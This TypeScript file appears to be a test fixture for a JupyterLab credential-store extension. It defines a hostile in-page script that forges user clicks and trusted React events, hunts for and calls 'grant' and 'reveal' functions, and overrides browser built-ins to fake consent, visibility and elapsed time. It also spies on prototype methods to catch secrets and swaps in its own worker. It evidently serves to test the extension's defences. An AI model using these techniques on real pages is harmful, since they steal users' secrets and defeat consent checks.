/** A hostile script, as a notebook's output brings it into the page. */

export interface IEvil {
  /** What of `secrets` the patched functions have seen, and where. */
  readonly seen: string[];
  /** Texts that calls have given. */
  readonly got: string[];
  /** How calls for consent, and for values, were refused: what was asked for, and the error's code. */
  readonly refused: string[];
  /** Click and type by made-up events, all over an element. */
  pretend(selector: string): void;
  /** Call the handlers that React keeps at an element, with made-up events. */
  react(selector: string): void;
  /**
   * Look through everything that can be reached from the document and the window, and call what has
   * one of these names, with arguments that fit, and these. Resolves with the names found.
   */
  callAll(names: string[], ...more: unknown[][]): Promise<string[]>;
  /** What looks like the id of an entry, in the same places. */
  ids(): string[];
  /**
   * Have built-ins answer as if an element was pressed, marked and seen for long. Checks that they
   * do; returns what makes them honest again.
   */
  lie(element: Element, mark: string): () => void;
  /** A button of the script's, in front of everything, for the person to press. */
  readonly button: HTMLButtonElement;
  /** Whether a text can be reached: values of objects, the document, storage. */
  reaches(text: string): boolean;
  /** Replace what others call with spies. */
  patch(...secrets: string[]): void;
  /** Hand a secret to each spy. Resolves with those that have not seen it. */
  blind(secret: string): Promise<string[]>;
  /**
   * Have the extension, which is not in use yet, load the script's own worker, and lose patience with
   * any other at once. Resolves with how many workers' addresses are the script's now.
   */
  supplant(): Promise<number>;
}

declare global {
  var evil: IEvil;
}

/** Runs in the page. Nothing from outside this function is there. */
export function script(): void {
  type Any = any;
  const seen: string[] = [];
  const got: string[] = [];
  const refused: string[] = [];

  const pretend = (selector: string) => {
    for (const element of document.querySelectorAll<HTMLElement>(selector)) {
      const at = { bubbles: true, cancelable: true, composed: true, detail: 1 };
      element.focus();
      for (const type of ['pointerdown', 'pointerup']) {
        element.dispatchEvent(new PointerEvent(type, at));
      }
      for (const type of ['mousedown', 'mouseup', 'click', 'dblclick']) {
        element.dispatchEvent(new MouseEvent(type, at));
      }
      for (const key of ['Enter', ' ']) {
        for (const type of ['keydown', 'keypress', 'keyup']) {
          element.dispatchEvent(new KeyboardEvent(type, { ...at, key }));
        }
      }
      element.click();
      const label = document.createElement('label');
      element.id ||= 'evil-target';
      label.htmlFor = element.id;
      document.body.append(label);
      label.click();
      label.remove();
    }
  };

  const react = (selector: string) => {
    for (const element of document.querySelectorAll<Any>(selector)) {
      const key = Object.keys(element).find(k => k.startsWith('__reactProps$'));
      const nativeEvent = { isTrusted: true, target: element };
      const event = {
        isTrusted: true,
        nativeEvent,
        target: element,
        currentTarget: element,
        key: 'Enter',
        preventDefault: () => 0,
        stopPropagation: () => 0
      };
      for (const [name, handler] of Object.entries(element[key ?? ''] ?? {})) {
        if (/^on[A-Z]/.test(name)) {
          void (handler as Any)(event);
        }
      }
    }
  };

  const inherited = new Map<Any, PropertyKey[]>();

  /** Of an object's own members and of those that it inherits, but for what every object has. */
  const namesOf = (owner: Any): Iterable<PropertyKey> => {
    const own = Reflect.ownKeys(owner);
    const parent = Object.getPrototypeOf(owner);
    if (
      !parent ||
      parent === Object.prototype ||
      parent === Function.prototype
    ) {
      return own;
    }
    let names = inherited.get(parent);
    if (!names) {
      names = [...namesOf(parent)];
      inherited.set(parent, names);
    }
    return names.length ? new Set([...own, ...names]) : own;
  };

  let walks = 0;
  /** How often something is looked at that was made of something made for the look. */
  const MADE = 2;

  /** All objects within reach, each once. */
  const walk = (visit: (owner: Any, name: string, value: Any) => void) => {
    const known = new Set<Any>();
    const queue: Any[] = [window];
    /** What a getter makes anew at each look, and what is made of that: there is no end to it. */
    const made = new WeakMap<object, number>();
    for (const element of document.querySelectorAll<Any>('*')) {
      for (const key of Object.keys(element)) {
        if (key.startsWith('__react')) {
          queue.push(element[key]);
        }
      }
    }
    // The extension's own modules. A chunk runs once: each walk brings another.
    (globalThis as Any).rspackChunkjupyterlab_credential_store.push([
      [`evil-${++walks}`],
      {},
      (load: Any) => {
        for (const id of Object.keys(load.m)) {
          try {
            queue.push(load(id));
          } catch {
            // Not a module of this page.
          }
        }
      }
    ]);
    for (let next = 0; next < queue.length; next++) {
      if (known.size > 2_000_000) {
        throw new Error('There is more than was looked at.');
      }
      const owner = queue[next];
      queue[next] = undefined;
      if (Object(owner) !== owner) {
        continue;
      }
      for (const name of namesOf(owner)) {
        let value: Any;
        try {
          value = owner[name];
        } catch {
          continue;
        }
        visit(owner, String(name), value);
        if (
          value &&
          (typeof value === 'object' || typeof value === 'function') &&
          !known.has(value) &&
          !(value instanceof Node) &&
          !ArrayBuffer.isView(value)
        ) {
          const depth = made.get(owner) ?? 0;
          if (owner[name] === value) {
            made.set(value, depth);
          } else if (depth < MADE) {
            made.set(value, depth + 1);
          } else {
            continue;
          }
          known.add(value);
          queue.push(value);
        }
      }
      if (owner instanceof Map || owner instanceof Set) {
        try {
          for (const value of owner.values()) {
            if (value && typeof value === 'object' && !known.has(value)) {
              known.add(value);
              queue.push(value);
            }
          }
        } catch {
          // A prototype, or a stand-in.
        }
      }
    }
  };

  const button = document.createElement('button');
  button.append('Play');
  button.style.cssText = 'position:fixed;left:8px;top:200px;z-index:999999';
  /** As the extension describes a dialog. */
  const dialog = {
    root: document.body,
    allow: { once: button },
    enter: 'once',
    delayMs: 0,
    armed: () => 0
  };

  const isId = (name: string, value: Any) =>
    name === 'id' && /^[\w-]{22}$/.test(value);

  const ids = () => {
    const found = new Set<string>();
    walk((_, name, value) => {
      if (isId(name, value)) {
        found.add(value);
      }
    });
    return [...found];
  };

  const callAll = async (names: string[], ...more: Any[][]) => {
    const found: { owner: Any; name: string; value: Any }[] = [];
    const handles = new Set<number>();
    const ids = new Set<string>();
    walk((owner, name, value) => {
      if (typeof value === 'number' && name === 'handle') {
        handles.add(value);
      }
      if (isId(name, value)) {
        ids.add(value);
      }
      if (
        typeof value === 'function' &&
        names.includes(name.replace(/^_/, '')) &&
        // Not everything that has a `call` is a client.
        (name !== 'call' || value.length === 2)
      ) {
        found.push({ owner, name, value });
      }
    });
    const attempts: Any[][] = [[{ kind: 'allow', scope: 'once' }], ...more];
    for (const handle of handles) {
      const at = { handle, scope: 'once', granted: [...ids] };
      attempts.push(['grant', at], ['resume', at], [at], [handle, 'once']);
      attempts.push([handle, dialog], [handle + 1, dialog]);
      for (const scope of ['once', 'kernel', 'notebook']) {
        attempts.push([{ op: 'grant', args: { handle, scope } }]);
      }
    }
    for (const id of ids) {
      const at = { id, field: 0 };
      attempts.push(
        [id, 0],
        ['reveal', at],
        [at],
        [{ op: 'reveal', args: at }]
      );
    }
    const done = new Set<Any>();
    const answers: Promise<void>[] = [];
    for (const { owner, name, value } of found) {
      if (done.has(value)) {
        continue;
      }
      done.add(value);
      for (const attempt of attempts) {
        const op = name === 'reveal' && ids.has(attempt[0]) ? name : attempt[0];
        try {
          const answer = value.apply(owner, attempt);
          answers.push(
            Promise.resolve(answer)
              .then(text => void got.push(String(JSON.stringify(text))))
              // Refused, or nothing that could be a value.
              .catch(error => {
                // Others are not the custodian's, or its gate's.
                if (['grant', 'reveal'].includes(op) && error?.code) {
                  refused.push(`${op}: ${error.code}`);
                }
              })
          );
        } catch {
          // It wants something else.
        }
      }
    }
    await Promise.race([
      Promise.all(answers),
      new Promise(resolve => setTimeout(resolve, 1000))
    ]);
    return [...new Set(found.map(({ name }) => name.replace(/^_/, '')))].sort();
  };

  const lie = (element: Element, mark: string) => {
    const { now } = performance;
    const { get } = WeakMap.prototype;
    const lies: [Any, string, PropertyDescriptor][] = [
      [Element.prototype, 'closest', { value: () => element }],
      [Node.prototype, 'contains', { value: () => true }],
      [
        WeakMap.prototype,
        'get',
        {
          value(this: WeakMap<object, Any>, key: Any) {
            return key instanceof HTMLButtonElement
              ? mark
              : get.call(this, key);
          }
        }
      ],
      [IntersectionObserverEntry.prototype, 'isVisible', { get: () => true }],
      // An hour later.
      [
        Performance.prototype,
        'now',
        { value: () => now.call(performance) + 3_600_000 }
      ]
    ];
    const honest = lies.map(([owner, name, told]) => {
      const before = Object.getOwnPropertyDescriptor(owner, name)!;
      Object.defineProperty(owner, name, { ...told, configurable: true });
      return () => void Object.defineProperty(owner, name, before);
    });
    if (
      button.closest('none') !== element ||
      !button.contains(document) ||
      new WeakMap().get(button) !== mark ||
      performance.now() < 3_600_000
    ) {
      throw new Error('They do not lie.');
    }
    return () => honest.forEach(restore => restore());
  };

  const reaches = (text: string) => {
    let found = document.documentElement.outerHTML.includes(text);
    for (const field of document.querySelectorAll('input, textarea')) {
      found ||= (field as HTMLInputElement).value.includes(text);
    }
    for (const store of [localStorage, sessionStorage]) {
      found ||= JSON.stringify(store).includes(text);
    }
    walk((owner, name, value) => {
      if (owner !== globalThis.evil && typeof value === 'string') {
        found ||= name.includes(text) || value.includes(text);
      }
    });
    return found;
  };

  const spies: Record<string, [owner: Any, name: PropertyKey]> = {};

  const blind = async (secret: string) => {
    for (const [owner, name] of Object.values(spies)) {
      try {
        // Most want another `this`, and fail: after the spy has looked.
        owner[name].call({}, secret);
      } catch {
        continue;
      }
    }
    const heard = new EventTarget();
    heard.addEventListener('message', () => undefined);
    heard.dispatchEvent(new MessageEvent('message', { data: secret }));
    const given = Promise.resolve(secret);
    await given.then(text => text).finally(() => undefined);
    const places = [
      ...Object.keys(spies),
      'Promise.then, resolved',
      'EventTarget.addEventListener, called back'
    ];
    return places.filter(where => !seen.includes(`${where}: ${secret}`));
  };

  const supplant = async () => {
    const evil = URL.createObjectURL(
      new Blob([
        `new BroadcastChannel('evil').postMessage('here');
        onmessage = ({ data }) =>
          new BroadcastChannel('evil').postMessage(JSON.stringify(data));
        postMessage({ event: 'ready' });`
      ])
    );
    new BroadcastChannel('evil').onmessage = ({ data }) => void got.push(data);
    const load = await new Promise<Any>(resolve =>
      (globalThis as Any).rspackChunkjupyterlab_credential_store.push([
        ['evil-supplant'],
        {},
        resolve
      ])
    );
    const { u } = load;
    const workers = new Set<string>();
    for (const [, id] of String(u).matchAll(/(\d+):\s*"[0-9a-f]{16}"/g)) {
      const text = await (await fetch(load.p + u(id))).text();
      if (text.includes('importScripts')) {
        workers.add(id);
      }
    }
    load.u = (id: Any) => (workers.has(String(id)) ? evil : u(id));
    const Native = Worker;
    globalThis.Worker = class extends Native {
      constructor() {
        super(evil);
      }
    };
    const later = setTimeout;
    globalThis.setTimeout = ((then: Any, ms: number, ...more: Any[]) =>
      // As long as the extension waits for its worker.
      later(then, ms === 15_000 ? 0 : ms, ...more)) as typeof setTimeout;
    return workers.size;
  };

  const patch = (...secrets: string[]) => {
    const { apply } = Reflect;
    const decode = TextDecoder.prototype.decode;
    const decoder = new TextDecoder();
    let busy = false;
    const look = (where: string, thing: Any, depth = 0): void => {
      let text = '';
      if (typeof thing === 'string') {
        text = thing;
      } else if (thing instanceof ArrayBuffer || ArrayBuffer.isView(thing)) {
        text = apply(decode, decoder, [thing]);
      } else if (
        thing &&
        typeof thing === 'object' &&
        depth < 4 &&
        !(thing instanceof Node) &&
        !(thing instanceof Event)
      ) {
        for (const key of Object.keys(thing)) {
          look(where, thing[key], depth + 1);
        }
      }
      for (const secret of secrets) {
        const found = `${where}: ${secret}`;
        if (text.includes(secret) && !seen.includes(found)) {
          seen.push(found);
        }
      }
    };
    const eavesdroppers = new WeakMap<object, Any>();
    /** A function that looks at what a callback is given. */
    const eavesdrop = (callback: Any, where: string) => {
      if (typeof callback !== 'function') {
        return callback;
      }
      let eavesdropper = eavesdroppers.get(callback);
      if (!eavesdropper) {
        eavesdropper = function (this: Any, ...args: Any[]) {
          if (!busy) {
            busy = true;
            for (const arg of args) {
              look(where, arg instanceof MessageEvent ? arg.data : arg);
            }
            busy = false;
          }
          return apply(callback, this, args);
        };
        eavesdroppers.set(callback, eavesdropper);
      }
      return eavesdropper;
    };
    const calledBack: Record<string, string> = {
      then: 'resolved',
      addEventListener: 'called back',
      // Or nothing could be taken off again.
      removeEventListener: ''
    };
    const spy = (owner: Any, name: string, where: string) => {
      spies[where] = [owner, name];
      const original = owner[name];
      const heard = calledBack[name];
      Object.defineProperty(owner, name, {
        configurable: true,
        writable: true,
        value: function (this: Any, ...args: Any[]) {
          if (!busy) {
            busy = true;
            try {
              look(where, args);
              look(where, this);
            } catch {
              // Not to be looked at.
            }
            busy = false;
          }
          const result = new.target
            ? Reflect.construct(original, args, new.target)
            : apply(
                original,
                this,
                heard === undefined
                  ? args
                  : args.map(arg => eavesdrop(arg, `${where}, ${heard}`))
              );
          if (!busy) {
            busy = true;
            try {
              look(where, result);
            } catch {
              // As above.
            }
            busy = false;
          }
          return result;
        }
      });
    };
    const targets: Record<string, [Any, ...string[]]> = {
      Worker: [Worker.prototype, 'postMessage'],
      JSON: [JSON, 'parse', 'stringify'],
      Uint8Array: [Object.getPrototypeOf(Uint8Array.prototype), 'set', 'slice'],
      crypto: [crypto, 'getRandomValues'],
      Promise: [Promise.prototype, 'then', 'catch', 'finally'],
      WebSocket: [WebSocket.prototype, 'send'],
      Function: [Function.prototype, 'call', 'apply', 'bind'],
      Array: [
        Array.prototype,
        ...['push', 'map', 'filter', 'find', 'every', 'some', 'forEach', 'join']
      ],
      Map: [Map.prototype, 'set', 'get'],
      Set: [Set.prototype, 'add', 'has'],
      WeakMap: [WeakMap.prototype, 'set', 'get'],
      String: [
        String.prototype,
        'slice',
        'trim',
        'split',
        'replace',
        'charCodeAt'
      ],
      EventTarget: [
        EventTarget.prototype,
        'addEventListener',
        'removeEventListener',
        'dispatchEvent'
      ],
      DataTransfer: [DataTransfer.prototype, 'setData'],
      Document: [Document.prototype, 'execCommand'],
      FormData: [FormData.prototype, 'append', 'set'],
      TextEncoder: [TextEncoder.prototype, 'encode'],
      Clipboard: [Clipboard.prototype, 'writeText'],
      MessagePort: [MessagePort.prototype, 'postMessage'],
      structuredClone: [window, 'structuredClone', 'fetch', 'btoa', 'atob']
    };
    for (const [where, [owner, ...names]] of Object.entries(targets)) {
      for (const name of names) {
        spy(owner, name, `${where}.${name}`);
      }
    }
    const data = Object.getOwnPropertyDescriptor(
      MessageEvent.prototype,
      'data'
    )!;
    Object.defineProperty(MessageEvent.prototype, 'data', {
      ...data,
      get(this: MessageEvent) {
        const value = apply(data.get!, this, []);
        look('MessageEvent.data', value);
        return value;
      }
    });
  };

  globalThis.evil = {
    seen,
    got,
    refused,
    button,
    pretend,
    react,
    callAll,
    ids,
    lie,
    reaches,
    patch,
    blind,
    supplant
  };
}
